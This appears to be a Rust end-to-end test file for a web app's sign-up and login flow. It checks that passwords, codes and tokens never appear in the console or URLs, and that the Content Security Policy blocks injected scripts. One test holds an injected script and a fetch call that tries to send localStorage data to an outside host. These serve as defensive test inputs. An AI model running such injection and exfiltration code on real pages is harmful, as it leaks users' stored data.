//! What must never be seen outside the form and the storage.

use anyhow::Result;
use e2e::{EMAIL, PASSWORD, Stage};
use serde_json::json;

#[tokio::test]
async fn no_password_code_or_token_shows_in_the_console_or_in_an_address() -> Result<()> {
    let stage = Stage::empty().await?;
    let (page, pool) = (&stage.page, &stage.pool);
    page.open("/auth/signup").await?;
    page.fill("Email", EMAIL).await?;
    page.fill("Password", PASSWORD).await?;
    page.fill("Confirm password", PASSWORD).await?;
    page.press("Create account").await?;
    page.shows("/auth/verify_account", "Verify account").await?;
    let code = pool.latest_code(EMAIL).await?;
    page.fill("Verification code", &code).await?;
    page.press("Verify account").await?;
    stage.arrives().await?;
    page.press("Sign out").await?;
    page.shows("/auth/login", "Login").await?;
    stage.sign_in("Difference-Engine-1822").await?;
    page.alert().await?;
    stage.sign_in(PASSWORD).await?;
    stage.arrives().await?;
    let mut secrets = vec![code, PASSWORD.into(), "Difference-Engine-1822".into()];
    for name in ["accessToken", "idToken", "refreshToken"] {
        secrets.push(stage.token(name).await?);
    }
    page.reload().await?;
    stage.arrives().await?;
    page.press("Sign out").await?;
    page.shows("/auth/login", "Login").await?;

    page.run("console.log('the end of the console')").await?;
    let console = stage.browser.console().await?;
    assert!(console.iter().any(|line| line.contains("the end of")));
    let refused = |line: &&String| line.contains("Content Security Policy");
    assert_eq!(console.iter().find(refused), None);
    let history = page.run("return navigation.entries().map((entry) => entry.url)");
    let history: Vec<String> = serde_json::from_value(history.await?)?;
    assert!(history.iter().any(|url| url.ends_with("/auth/login")));
    for secret in &secrets {
        let places = console.iter().chain(&history);
        let seen = places
            .chain(&stage.site.visited())
            .find(|place| place.contains(secret.as_str()))
            .cloned();
        assert_eq!(seen, None);
    }
    Ok(())
}

#[tokio::test]
async fn what_somebody_brings_into_the_page_neither_runs_nor_sends_anything_away() -> Result<()> {
    let stage = Stage::signed_in().await?;
    let page = &stage.page;
    let bring_in = "const script = document.createElement('script');
        script.textContent = 'window.broughtIn = true';
        document.body.append(script);
        return Boolean(window.broughtIn)";
    assert_eq!(page.run(bring_in).await?, json!(false));
    let send = "return fetch('https://example.org/?' + localStorage.length).then(() => 'sent', () => 'held')";
    assert_eq!(page.run(send).await?, json!("held"));
    let console = stage.browser.console().await?;
    let refused = console
        .iter()
        .filter(|line| line.contains("Content Security Policy"));
    assert!(refused.count() >= 2, "{console:?}");
    Ok(())
}
